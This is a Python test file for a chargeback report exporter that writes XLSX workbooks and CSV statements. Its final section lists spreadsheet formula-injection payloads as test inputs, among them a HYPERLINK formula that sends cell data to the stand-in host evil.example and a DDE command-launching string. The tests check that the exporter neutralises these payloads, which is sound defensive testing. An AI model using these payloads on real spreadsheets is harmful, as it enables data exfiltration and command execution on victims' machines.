"""Tests for aoai_helpers.analysis.export: the XLSX workbook and the CSV statement, read back.

Most tests build a :class:`MonthReport` by hand (exact figures, awkward names); one goes
through the database (``month_report``) to check the pieces fit.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import os
import re
import zipfile
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pytest
import rfc4180

from aoai_helpers.analysis.budget import Allocation, BudgetBurn
from aoai_helpers.analysis.export import (
    SUMMARY_COLUMNS,
    sheet_names,
    summary_table,
    write_csv,
    write_xlsx,
)
from aoai_helpers.analysis.report import MIXED, BuCharge, DailyUsage, ModelUsage, UserUsage
from aoai_helpers.analysis.statement import MonthReport, Statement, issue_statement, month_report
from aoai_helpers.analysis.workbook import SAME_ON_EVERY_ROW
from aoai_helpers.exceptions import ConfigError

HEADERS = [c.header for c in SUMMARY_COLUMNS]
NO_ALLOCATION = [h for h in HEADERS if h != "Allocation"]
#: the workbook's Summary: without the columns that are the same on every row
SHEET = [h for h in HEADERS if h not in SAME_ON_EVERY_ROW]
SHEET_NO_ALLOCATION = [h for h in SHEET if h != "Allocation"]


def line(bu: str, cost: float, currency: str | None = "USD", tokens: int = 1000) -> BuCharge:
    return BuCharge(bu, "CC-1", 10, tokens - 100, 100, tokens, cost, currency, cost / 4, 2, 3)


def report(
    lines: list[BuCharge],
    *,
    issued: datetime | None = None,
    allocation: list[Allocation] | None = None,
    budgets: list[BudgetBurn] | None = None,
) -> MonthReport:
    bu = lines[0].business_unit if lines else "x"
    return MonthReport(
        month="2026-11",
        statement=Statement("2026-11", "issued" if issued else "live", issued, lines),
        budgets=budgets or [],
        by_model=[
            ModelUsage(bu, "gpt-4o", "chat", 7, 700, 70, 64, 770, 1.5, "USD", 0.5, 1, 0),
            ModelUsage(bu, "my-ft", "ft", 3, 30, 3, 0, 33, None, None, 0.0, 0, 3),
        ],
        daily=[
            DailyUsage(date(2026, 11, 2), bu, 4, 400, 40, 440, 1.0, "USD", 0),
            DailyUsage(date(2026, 11, 3), bu, 6, 330, 33, 363, None, None, 3),
        ],
        top_users=[UserUsage("Ann", "ann@example.com", bu, 9, 999, 1.25, "USD", 0)],
        allocation_amount=sum((a.amount for a in allocation), Decimal(0)) if allocation else None,
        allocation=allocation,
        as_of=datetime(2026, 12, 3, 8, 0),
    )


def _table(ws, first: str = "Business unit"):
    """(header row number, header, data rows) of the table whose first header is ``first``."""
    for row in ws.iter_rows():
        if row[0].value == first:
            header = [c.value for c in row if c.value is not None]
            body = []
            for r in ws.iter_rows(min_row=row[0].row + 1):
                if r[0].value is None:
                    break
                body.append(r[: len(header)])
            return row[0].row, header, body
    raise AssertionError(f"no table starting with {first!r} in {ws.title}")


def test_sheet_names_follow_excels_rules():
    names = sheet_names(
        [
            "Finance",
            "R&D: [core]/AI*?\\",
            "'Quoted'",
            "A" * 40,
            "A" * 31 + "B",
            "summary",
            "history",
            "finance",
            "",
        ]
    )
    assert names == {
        "Finance": "Finance",
        "R&D: [core]/AI*?\\": "R&D_ _core__AI___",
        "'Quoted'": "Quoted",
        "A" * 40: "A" * 31,
        "A" * 31 + "B": "A" * 27 + " (2)",
        "summary": "summary (2)",  # "Summary" is the first sheet (Excel ignores case)
        "history": "history (2)",  # reserved by Excel
        "finance": "finance (2)",
        "": "BU",
    }
    assert all(len(n) <= 31 for n in names.values())
    assert len({n.casefold() for n in names.values()}) == len(names)


def test_xlsx_summary_and_sheets(tmp_path):
    lines = [line("Finance", 12.5), line("R&D: AI/ML", 7.25, tokens=3000)]
    budgets = [
        BudgetBurn("Finance", "CC-1", 10.0, 12.5, "USD", 1.25, 13.0, 1.3, 0.9, "over", 2),
    ]
    alloc = [
        Allocation("Finance", 1000, 0.25, Decimal("250.00")),
        Allocation("R&D: AI/ML", 3000, 0.75, Decimal("750.00")),
    ]
    path = write_xlsx(
        tmp_path / "nov.xlsx",
        report(lines, issued=datetime(2026, 12, 1, 9), allocation=alloc, budgets=budgets),
    )
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Summary", "Notes", "Finance", "R&D_ AI_ML"]
    ws = wb["Summary"]
    assert ws["A1"].value == "Chargeback statement 2026-11"
    assert "CS-2026-11-20261201T090000Z: issued 2026-12-01 09:00 UTC" in ws["A2"].value
    assert "Allocation: 1,000.00 USD split by total token share" in ws["A4"].value
    row, header, body = _table(ws)
    assert header == SHEET
    assert ws.freeze_panes == f"B{row + 1}"
    col = {h: i for i, h in enumerate(header)}
    finance, rnd, total = body
    assert [c.value for c in finance[:2]] == ["Finance", "CC-1"]
    for name, value in [("Calls", 10), ("Total tokens", 1000), ("Cost", 12.5)]:
        cell = finance[col[name]]
        assert cell.value == value and cell.data_type == "n"
    assert finance[col["Calls"]].number_format == "#,##0"
    assert finance[col["Cost"]].number_format == '#,##0.00 "USD";-#,##0.00 "USD"'
    assert finance[col["Provisional share"]].value == pytest.approx(0.25)
    assert finance[col["Provisional share"]].number_format == "0.0%"
    assert (finance[col["Budget"]].value, finance[col["Budget used"]].value) == (10.0, 1.25)
    assert finance[col["Budget status"]].value == "over"
    assert finance[col["Allocation"]].value == 250
    assert not set(SAME_ON_EVERY_ROW) & set(header)  # in the title and the page header
    assert "CS-2026-11-20261201T090000Z" in ws.oddHeader.left.text
    assert rnd[col["Budget"]].value is None and rnd[col["Budget status"]].value == "no budget"
    assert rnd[col["Projected cost"]].value == 7.25  # no budget row: the cost itself
    assert total[col["Business unit"]].value == "Total"
    assert total[col["Calls"]].value == 20
    assert total[col["Cost"]].value == pytest.approx(19.75)
    assert total[col["Currency"]].value == "USD"
    assert total[col["Allocation"]].value == 1000
    assert total[col["Provisional share"]].value == pytest.approx(0.25)

    bu = wb["Finance"]
    assert bu["A1"].value == "Finance — 2026-11"
    _, header, models = _table(bu, "Model")
    assert header[:3] == ["Model", "Deployment", "Calls"]
    assert [c.value for c in models[0][:3]] == ["gpt-4o", "chat", 7]
    cost = header.index("Cost")
    assert models[0][cost].value == 1.5 and models[1][cost].value == "unpriced"  # never 0
    assert models[2][0].value == "Total" and models[2][cost].value == 1.5
    _, header, days = _table(bu, "Day")
    assert days[0][0].value == datetime(2026, 11, 2) and days[0][0].number_format == "yyyy-mm-dd"
    _, header, users = _table(bu, "User")
    assert [c.value for c in users[0][:3]] == ["Ann", "ann@example.com", 9]


def test_xlsx_mixed_currencies_and_formula_like_names(tmp_path):
    lines = [line("=HYPERLINK(1)", 5.0, "USD"), line("+Ops", 3.0, "EUR"), line("x", 1.0, MIXED)]
    path = write_xlsx(tmp_path / "m.xlsx", report(lines))
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Summary", "Notes", "=HYPERLINK(1)", "+Ops", "x"]
    _, header, body = _table(wb["Summary"])
    assert "Allocation" not in header and header == SHEET_NO_ALLOCATION
    names = [r[0] for r in body]
    assert names[0].value == "=HYPERLINK(1)" and names[0].data_type == "s"  # text, not a formula
    col = {h: i for i, h in enumerate(header)}
    assert [r[col["Business unit"]].value for r in body[3:]] == [
        "Total (USD)",
        "Total (EUR)",
        "Total",
    ]
    assert [r[col["Cost"]].value for r in body[3:5]] == [5.0, 3.0]  # each currency on its own
    assert body[2][col["Cost"]].value is None  # a MIXED line's cost is not a sum
    total = body[-1]
    assert total[col["Currency"]].value == MIXED
    assert total[col["Cost"]].value is None  # no sum across currencies
    assert total[col["Calls"]].value == 30
    assert "live (not issued)" in wb["Summary"]["A2"].value


def test_xlsx_empty_month(tmp_path):
    wb = openpyxl.load_workbook(write_xlsx(tmp_path / "e.xlsx", report([])))
    assert wb.sheetnames == ["Summary", "Notes"]
    _, header, body = _table(wb["Summary"])
    assert header == SHEET_NO_ALLOCATION
    assert [[c.value for c in row if c.value] for row in body] == [["(no calls in this month)"]]


def test_csv_statement(tmp_path):
    lines = [line("Finance", 12.5), line("-Legal, Ltd", 0.5, None)]
    alloc = [
        Allocation("Finance", 1000, 0.5, Decimal("0.50")),
        Allocation("-Legal, Ltd", 1000, 0.5, Decimal("0.50")),
    ]
    path = write_csv(tmp_path / "s.csv", report(lines, allocation=alloc))
    text = path.read_text("utf-8")
    assert not text.startswith("\ufeff")
    rows = list(csv.DictReader(text.splitlines()))
    assert list(rows[0]) == HEADERS
    assert len(rows) == 2  # one row per BU, no total
    finance, legal = rows
    assert finance["Business unit"] == "Finance"
    # in cents; 12.50 split 9.375 : 3.125 → 9.38 exact (a tie: the larger part), 3.12 provisional
    assert (finance["Cost"], finance["Provisional cost"], legal["Cost"]) == (
        "12.50",
        "3.12",
        "0.50",
    )
    assert finance["Provisional share"] == "0.25" and finance["Projected cost"] == "12.50"
    assert float(finance["Cost"]) == 12.5 and int(finance["Calls"]) == 10
    assert finance["Allocation"] == "0.50" and finance["Statement"] == "live"
    assert finance["Issued at (UTC)"] == "" and finance["Budget"] == ""
    assert finance["Statement id"] == "live — not issued"
    assert legal["Business unit"] == "'-Legal, Ltd"  # not read as a formula by a spreadsheet
    assert legal["Currency"] == ""
    header, values = summary_table(report(lines, allocation=alloc))
    assert header == HEADERS and len(values) == 2


def test_csv_money_is_in_minor_units_and_shares_in_fixed_point(tmp_path):
    lines = [line("Tiny", 0.00002), line("Big", 2129.38673235), line("Yen", 1234.5, "JPY")]
    path = write_csv(tmp_path / "t.csv", report(lines))
    tiny, big, yen = list(csv.DictReader(path.read_text("utf-8").splitlines()))
    # 2129.38675235 → 2129.39: Big 2129.39 (remainder 0.673 cent), Tiny 0.00 (never 2e-05)
    assert (tiny["Cost"], tiny["Provisional cost"], big["Cost"]) == ("0.00", "0.00", "2129.39")
    assert tiny["Provisional share"] == "0.25"
    assert (yen["Cost"], yen["Currency"]) == ("1235", "JPY")  # no minor unit, half up


def test_files_are_replaced_atomically(tmp_path):
    target = tmp_path / "deep" / "dir" / "s.csv"
    write_csv(target, report([line("A", 1.0)]))
    write_csv(target, report([line("B", 2.0)]))
    assert "B" in target.read_text("utf-8") and "A,CC-1" not in target.read_text("utf-8")
    assert sorted(p.name for p in target.parent.iterdir()) == ["s.csv"]  # no temp file left
    assert oct(target.stat().st_mode & 0o777) == oct(0o666 & ~_umask())
    blocker = tmp_path / "file"
    blocker.write_text("x")
    with pytest.raises(ConfigError, match="cannot write"):
        write_xlsx(blocker / "x.xlsx", report([line("A", 1.0)]))


def _umask() -> int:
    mask = os.umask(0)
    os.umask(mask)
    return mask | 0o111  # files never executable


def test_from_the_database(engine, make_v2, ingest_events, tmp_path):
    ingest_events(
        engine,
        make_v2(SubscriptionId="s1", SubscriptionName="Finance"),
        make_v2(SubscriptionId="s2", SubscriptionName="Legal/Compliance: EU"),
    )
    issue_statement(engine, "2026-11", now=datetime(2026, 12, 1))
    rep = month_report(engine, "2026-11", allocate_amount="99.99")
    wb = openpyxl.load_workbook(write_xlsx(tmp_path / "db.xlsx", rep))
    assert wb.sheetnames == ["Summary", "Notes", "Finance", "Legal_Compliance_ EU"]
    _, header, body = _table(wb["Summary"])
    col = {h: i for i, h in enumerate(header)}
    assert "CS-2026-11-20261201T000000Z" in wb["Summary"]["A2"].value
    assert body[-1][col["Allocation"]].value == pytest.approx(99.99)
    rows = list(csv.DictReader(write_csv(tmp_path / "db.csv", rep).read_text("utf-8").splitlines()))
    assert [r["Business unit"] for r in rows] == [r[col["Business unit"]].value for r in body[:-1]]
    assert {(r["Statement"], r["Statement id"]) for r in rows} == {
        ("issued", "CS-2026-11-20261201T000000Z")
    }


# ----------------------------------------------------------------------------- hostile names

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "\r=cmd|' /C calc'!A0",
    "x\r=cmd|' /C calc'!A0",  # a bare CR inside: a new row in a spreadsheet, if unquoted
    "+1",
    "-1",
    "@SUM(1+1)",
    " =1+1",  # formula leads after leading whitespace
    "\t=1+1",
    "\n@SUM(1)",
    "\x1b[31mred",
    "abc\u202edef",
    "a\nb",
    'quote " and, comma',
]
_LEADS = ("=", "+", "-", "@", "\t", "\r")


def test_csv_defuses_formulas_and_quotes_cr_lf_quote_comma(tmp_path):
    lines = [
        BuCharge(name, "=cost()" if i == 0 else "CC-1", 1, 10, 5, 15, 1.0, "USD", 0.0, 0, 0)
        for i, name in enumerate(HOSTILE)
    ]
    text = write_csv(tmp_path / "h.csv", report(lines)).read_bytes().decode("utf-8")
    records = rfc4180.records(text)
    assert len(records) == 1 + len(HOSTILE)  # no name splits a row
    assert all(len(r) == len(NO_ALLOCATION) for r in records)
    bu = NO_ALLOCATION.index("Business unit")
    for name, record in zip(HOSTILE, records[1:], strict=True):
        leads = name.startswith(_LEADS) or name.lstrip().startswith(_LEADS)
        assert record[bu] == ("'" + name if leads else name)
    for record in records:
        for cell in record:  # no cell a spreadsheet could take for a formula
            assert not cell.startswith(_LEADS) and not cell.lstrip().startswith(_LEADS), cell
    assert records[1][NO_ALLOCATION.index("Cost centre")] == "'=cost()"
    # and the standard reader agrees
    assert list(csv.reader(io.StringIO(text, newline=""))) == records


def test_csv_quotes_only_what_needs_it(tmp_path):
    text = write_csv(tmp_path / "q.csv", report([line("Plain BU", 1.0)])).read_text("utf-8")
    assert '"' not in text and "\r" not in text
    assert text.splitlines()[1].startswith("2026-11,Plain BU,CC-1,10,900,100,1000,1.00,USD,")


def _formulas(path) -> list[str]:
    """The parts of an xlsx that hold a formula element (``<f>``, ``<f …>``, ``<f/>``)."""
    with zipfile.ZipFile(path) as z:
        return [n for n in z.namelist() if re.search(rb"<f[\s>/]", z.read(n))]


def test_xlsx_hostile_names_are_text_everywhere_and_titles_stay_valid(tmp_path):
    lines = [line(name, 1.0) for name in HOSTILE]
    lines.append(line("'=quoted'", 1.0))
    rep = report(lines)
    # the BU sheets show each BU's models, days and users: give every BU hostile ones too
    rep = dataclasses.replace(
        rep,
        by_model=[
            ModelUsage(n, "=model()", "@dep", 1, 1, 1, 0, 2, 1.0, "USD", 0.0, 0, 0)
            for n in rep.business_units()
        ],
        top_users=[UserUsage("=user()", "+mail", n, 1, 2, 1.0, "USD", 0) for n in HOSTILE],
    )
    path = write_xlsx(tmp_path / "h.xlsx", rep)
    assert _formulas(path) == []  # no formula anywhere in the file
    wb = openpyxl.load_workbook(path)
    titles = wb.sheetnames
    assert len(titles) == 2 + len(lines) and len({t.casefold() for t in titles}) == len(titles)
    for title in titles:
        assert 0 < len(title) <= 31 and not re.search(r"[\[\]:*?/\\\x00-\x1f\x7f-\x9f]", title)
        assert not title.startswith("'") and not title.endswith("'")
    assert '=HYPERLINK("http___evil.example' in titles  # ":" and "/" became "_"
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    _, _, body = _table(wb["Summary"])
    # as they are, as text, but for what XML cannot hold (ESC…: dropped) and reads otherwise
    # (a CR comes back as LF: XML's line-end normalisation)
    shown = [re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", n).replace("\r", "\n") for n in HOSTILE]
    assert [r[0].value for r in body[:-1]] == [*shown, "'=quoted'"]
    assert all(r[0].data_type == "s" for r in body[:-1])
    first = wb[titles[2]]  # after Summary and Notes
    assert first["A1"].value.startswith("=HYPERLINK(") and first["A1"].data_type == "s"
    _, _, models = _table(first, "Model")
    assert [c.value for c in models[0][:2]] == ["=model()", "@dep"]
    _, _, users = _table(first, "User")
    assert [c.value for c in users[0][:2]] == ["=user()", "+mail"]
